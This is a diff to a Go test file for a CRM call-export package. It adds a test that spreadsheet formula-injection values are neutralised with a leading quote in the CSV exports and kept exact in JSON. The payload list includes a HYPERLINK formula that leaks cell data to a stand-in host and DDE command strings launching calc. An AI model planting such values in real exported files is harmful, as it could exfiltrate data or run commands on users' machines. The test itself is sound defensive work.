@@ -209,10 +209,10 @@ func TestTrickyNotesRoundTripThroughCSV(t *testing.T) {
 		// want is what the column must hold for notes n.
 		want func(n string) string
 	}{
-		{FormatCSV, "notes", func(n string) string { return n }},
+		{FormatCSV, "notes", func(n string) string { return defuseFormula(n) }},
 		// The CRM bodies drop trailing blanks, which no CRM shows anyway.
-		{FormatSalesforce, "Description", func(n string) string { return strings.TrimRight(n, " ") }},
-		{FormatHubSpot, "hs_call_body", func(n string) string { return strings.TrimRight(n, " ") }},
+		{FormatSalesforce, "Description", func(n string) string { return defuseFormula(strings.TrimRight(n, " ")) }},
+		{FormatHubSpot, "hs_call_body", func(n string) string { return defuseFormula(strings.TrimRight(n, " ")) }},
 	} {
 		var buf bytes.Buffer
 		if err := Write(&buf, tc.format, calls, nil); err != nil {
@@ -294,6 +294,67 @@ func TestCallBody(t *testing.T) {
 	} {
 		if got := callBody(tc.call); got != tc.want {
 			t.Errorf("%s: got %q, want %q", tc.name, got, tc.want)
+		}
+	}
+}
+
+// formulaValues start the way a spreadsheet formula does (OWASP's list).
+var formulaValues = []string{
+	`=HYPERLINK("http://evil.example/?x="&A1,"Click")`,
+	"+1+cmd|' /C calc'!A0",
+	"-2+3",
+	"@SUM(1+1)*cmd|' /C calc'!A0",
+	"\t=1+1",
+	"\r=1+1",
+}
+
+// TestFormulaInjectionIsNeutralised: in every CSV format no value that
+// came from data starts like a formula, each is the value behind a single
+// quote, and the JSON export keeps every value exactly.
+func TestFormulaInjectionIsNeutralised(t *testing.T) {
+	var calls []Call
+	for i, v := range formulaValues {
+		calls = append(calls, Call{ID: int64(i + 1), AccountID: v, AccountName: v, ContactID: v, ContactName: v,
+			StartedAt: exportedAt, Outcome: model.OutcomeConnected, Notes: v, FollowUp: v,
+			Offers: []Offer{{ProductID: v, ProductName: v, Response: model.ResponseInterested}}})
+	}
+	for _, f := range []Format{FormatSalesforce, FormatHubSpot, FormatCSV} {
+		var buf bytes.Buffer
+		if err := Write(&buf, f, calls, nil); err != nil {
+			t.Fatal(err)
+		}
+		recs := parseCSV(t, buf.String())
+		for _, rec := range recs[1:] {
+			for j, cell := range rec {
+				if cell != "" && strings.ContainsRune(formulaStarts, rune(cell[0])) {
+					t.Errorf("%s: column %s holds %q, which a spreadsheet runs as a formula", f, recs[0][j], cell)
+				}
+			}
+		}
+		notes := map[Format]string{FormatSalesforce: "Description", FormatHubSpot: "hs_call_body", FormatCSV: "notes"}[f]
+		if got := column(t, recs, notes)[0]; !strings.HasPrefix(got, "'=HYPERLINK(") {
+			t.Errorf("%s: notes came out as %q, want the formula behind a single quote", f, got)
+		}
+		if f == FormatCSV {
+			for i, got := range column(t, recs, "account_name") {
+				if want := "'" + formulaValues[i]; got != want {
+					t.Errorf("csv: account name %q, want %q", got, want)
+				}
+			}
+		}
+	}
+	var buf bytes.Buffer
+	if err := Write(&buf, FormatJSON, calls, nil); err != nil {
+		t.Fatal(err)
+	}
+	var got []callJSON
+	if err := json.Unmarshal(buf.Bytes(), &got); err != nil {
+		t.Fatal(err)
+	}
+	for i, c := range got {
+		v := formulaValues[i]
+		if c.Notes != v || c.AccountName != v || c.AccountID != v || c.Offers[0].ProductName != v {
+			t.Errorf("json changed %q: %+v", v, c)
 		}
 	}
 }
